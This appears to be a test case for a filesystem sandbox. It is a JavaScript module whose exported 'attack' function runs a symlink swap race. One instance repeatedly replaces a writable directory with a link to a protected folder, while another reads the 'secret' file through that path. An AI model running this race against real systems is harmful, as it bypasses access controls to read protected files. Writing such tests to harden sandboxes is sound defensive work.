// Swaps a folder for a link while another of its instances reads through it.
const fs = require('fs');
exports.attack = (to) => {
  const place = `${to.writable}/race`;
  const folder = require('path').dirname(to.secret);
  const attempt = (action) => {
    try {
      return action();
    } catch {
      return undefined;
    }
  };
  for (let round = 0; round < 500; round++) {
    if (to.part === 0) {
      attempt(() => fs.mkdirSync(place));
      attempt(() => fs.rmdirSync(place));
      attempt(() => fs.symlinkSync(folder, place));
      attempt(() => fs.unlinkSync(place));
    } else if (attempt(() => fs.readFileSync(`${place}/secret`, 'utf8'))?.includes('treasure')) {
      return true;
    }
  }
  return { held: 'nothing' };
};
